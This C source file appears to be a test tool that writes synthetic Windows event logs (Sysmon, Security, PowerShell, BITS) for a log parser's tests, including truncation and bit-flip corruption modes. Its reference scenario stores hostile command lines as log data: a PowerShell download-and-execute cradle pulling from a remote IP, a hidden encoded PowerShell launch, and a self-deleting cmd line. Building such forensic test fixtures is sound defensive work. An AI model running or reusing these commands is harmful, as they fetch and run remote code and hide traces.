/*
 * evtx-craft.c - writes EVTX logs for the tests and the benchmark (test
 * tool, not installed), using tests/unit/evtx-craft.h.
 *
 *	evtx-craft scenario OUT      the reference-case records below
 *	evtx-craft filler N OUT      N Sysmon / Security records
 *	evtx-craft truncate IN OUT BYTES
 *	evtx-craft flip IN OUT SEED COUNT   COUNT random bit flips in chunks
 */
#include "compat.h"

#include "evtx-craft.h"

static int
write_file(const char *path, const uint8_t *p, size_t n)
{
	FILE *f = fopen(path, "wb");

	if (!f || fwrite(p, 1, n, f) != n || fclose(f) != 0) {
		fprintf(stderr, "evtx-craft: cannot write %s\n", path);
		return 1;
	}
	return 0;
}

static uint8_t *
read_file(const char *path, size_t *n)
{
	FILE *f = fopen(path, "rb");
	uint8_t *p;
	long sz;

	if (!f || fseek(f, 0, SEEK_END) != 0 || (sz = ftell(f)) < 0 ||
	    fseek(f, 0, SEEK_SET) != 0) {
		fprintf(stderr, "evtx-craft: cannot read %s\n", path);
		exit(1);
	}
	p = ct_xmalloc((size_t)sz + 1);
	if (fread(p, 1, (size_t)sz, f) != (size_t)sz)
		exit(1);
	fclose(f);
	*n = (size_t)sz;
	return p;
}

static struct craft_rec
rec(const char *provider, const char *channel, unsigned id, uint64_t t)
{
	struct craft_rec r;

	memset(&r, 0, sizeof(r));
	r.provider = provider;
	r.channel = channel;
	r.computer = "FIN-WS042";
	r.event_id = id;
	r.time = t;
	r.pid = 2000;
	r.tid = 2100;
	return r;
}

#define F(r, n, v) do { (r).names[(r).nfields] = (n); \
	(r).values[(r).nfields] = (v); (r).nfields++; } while (0)
#define SYSMON "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"
#define PSOP "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational"
/* 2024-03-13T14:02:11Z */
#define T0 133548121310000000ull

static void
scenario(struct craft *cr)
{
	struct craft_rec r;

	r = rec(SYSMON, 1, T0);
	F(r, "RuleName", "-");
	F(r, "UtcTime", "2024-03-13 14:02:11.000");
	F(r, "ProcessGuid", "{11111111-2222-3333-4444-555555555555}");
	F(r, "ProcessId", "4242");
	F(r, "Image", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe");
	F(r, "CommandLine", "\"C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe\" /silent");
	F(r, "User", "FIN\\jdoe");
	F(r, "Hashes", "SHA1=0A0B,MD5=0C0D,SHA256=0E0F,IMPHASH=0102");
	F(r, "ParentProcessGuid", "{11111111-2222-3333-4444-000000000001}");
	F(r, "ParentProcessId", "4100");
	F(r, "ParentImage", "C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe");
	F(r, "ParentCommandLine", "QEUpdate.exe /check");
	craft_add(cr, &r);
	r = rec(SYSMON, 3, T0 + 10000000);
	F(r, "ProcessId", "4100");
	F(r, "Image", "C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe");
	F(r, "User", "FIN\\jdoe");
	F(r, "Protocol", "tcp");
	F(r, "SourceIp", "10.0.0.42");
	F(r, "SourcePort", "49712");
	F(r, "DestinationIp", "5.39.218.205");
	F(r, "DestinationPort", "80");
	craft_add(cr, &r);
	r = rec(SYSMON, 15, T0 + 20000000);
	F(r, "Image", "C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe");
	F(r, "TargetFilename", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe:Zone.Identifier");
	F(r, "Hash", "SHA256=0E0F");
	F(r, "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=http://5.39.218.205/logo.png  ");
	craft_add(cr, &r);
	r = rec("Microsoft-Windows-Security-Auditing", "Security", 4688, T0 + 30000000);
	F(r, "SubjectUserSid", "S-1-5-21-1-2-3-1001");
	F(r, "SubjectUserName", "jdoe");
	F(r, "SubjectDomainName", "FIN");
	F(r, "NewProcessId", "0x1a2c");
	F(r, "NewProcessName", "C:\\Windows\\System32\\cmd.exe");
	F(r, "ProcessId", "0x1092");
	F(r, "CommandLine", "cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q \"qeupdate_helper.exe\"");
	F(r, "ParentProcessName", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe");
	craft_add(cr, &r);
	/* The second part is written first: order comes from MessageNumber. */
	r = rec(PSOP, 4104, T0 + 40000001);
	F(r, "MessageNumber", "2");
	F(r, "MessageTotal", "2");
	F(r, "ScriptBlockText", "DownloadString('http://176.53.118.131/logo.png')");
	F(r, "ScriptBlockId", "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee");
	F(r, "Path", "");
	craft_add(cr, &r);
	r = rec(PSOP, 4104, T0 + 40000000);
	F(r, "MessageNumber", "1");
	F(r, "MessageTotal", "2");
	F(r, "ScriptBlockText", "IEX (New-Object Net.WebClient).");
	F(r, "ScriptBlockId", "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee");
	F(r, "Path", "");
	craft_add(cr, &r);
	r = rec("PowerShell", "Windows PowerShell", 400, T0 + 50000000);
	F(r, "", "Available");
	F(r, "", "None");
	F(r, "", "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n"
	    "\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n"
	    "\tHostApplication=powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA\r\n"
	    "\tEngineVersion=5.1.19041.1\r\n");
	craft_add(cr, &r);
	r = rec("Microsoft-Windows-Bits-Client", "Microsoft-Windows-Bits-Client/Operational", 59, T0 + 60000000);
	r.written = T0 + 60000000 + 36000000000ull;	/* written an hour later */
	F(r, "transferId", "{00000000-0000-0000-0000-000000000000}");
	F(r, "name", "QEUpdate");
	F(r, "url", "http://203.0.113.10/patch.exe");
	craft_add(cr, &r);
	r = rec("Unmapped-Provider", "Application", 777, T0 + 70000000);
	F(r, "Alpha", "one");
	F(r, "Beta", "two");
	craft_add(cr, &r);
}

int
main(int argc, char **argv)
{
	struct craft cr;
	size_t n;

	if (argc == 3 && strcmp(argv[1], "scenario") == 0) {
		int rc;

		craft_init(&cr);
		scenario(&cr);
		n = craft_finish(&cr);
		rc = write_file(argv[2], cr.buf, n);
		free(cr.buf);
		return rc;
	}
	if (argc == 4 && strcmp(argv[1], "filler") == 0) {
		long want = strtol(argv[2], NULL, 10), i;
		struct craft_rec r;
		char pid[32], cmd[128];

		craft_init(&cr);
		cr.max_chunks = (size_t)-1;
		for (i = 0; i < want; i++) {
			r = rec(SYSMON, i % 3 ? 1 : 3, T0 + (uint64_t)i * 10000);
			snprintf(pid, sizeof(pid), "%ld", 1000 + i % 30000);
			snprintf(cmd, sizeof(cmd), "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule %ld", i);
			F(r, "ProcessId", pid);
			F(r, "Image", "C:\\Windows\\System32\\svchost.exe");
			F(r, "CommandLine", cmd);
			F(r, "User", "NT AUTHORITY\\SYSTEM");
			F(r, "ParentImage", "C:\\Windows\\System32\\services.exe");
			F(r, "Hashes", "SHA1=0A0B,MD5=0C0D,SHA256=0E0F");
			if (craft_add(&cr, &r) != 0) {
				free(cr.buf);
				return 1;
			}
		}
		n = craft_finish(&cr);
		i = write_file(argv[3], cr.buf, n);
		free(cr.buf);
		return (int)i;
	}
	if (argc == 5 && strcmp(argv[1], "truncate") == 0) {
		uint8_t *p = read_file(argv[2], &n);
		size_t cut = (size_t)strtoul(argv[4], NULL, 10);
		int rc = write_file(argv[3], p, cut < n ? cut : n);

		free(p);
		return rc;
	}
	if (argc == 6 && strcmp(argv[1], "flip") == 0) {
		uint8_t *p = read_file(argv[2], &n);
		uint32_t seed = (uint32_t)strtoul(argv[4], NULL, 10);
		long count = strtol(argv[5], NULL, 10), i;

		for (i = 0; i < count && n > 4096 + 512; i++) {
			size_t at;

			seed = seed * 1103515245u + 12345u;
			at = 4096 + 512 + (size_t)(seed >> 4) % (n - 4096 - 512);
			p[at] ^= (uint8_t)(1u << (seed & 7));
		}
		i = write_file(argv[3], p, n);
		free(p);
		return (int)i;
	}
	fprintf(stderr, "usage: evtx-craft scenario OUT | filler N OUT | "
	    "truncate IN OUT BYTES | flip IN OUT SEED COUNT\n");
	return 2;
}
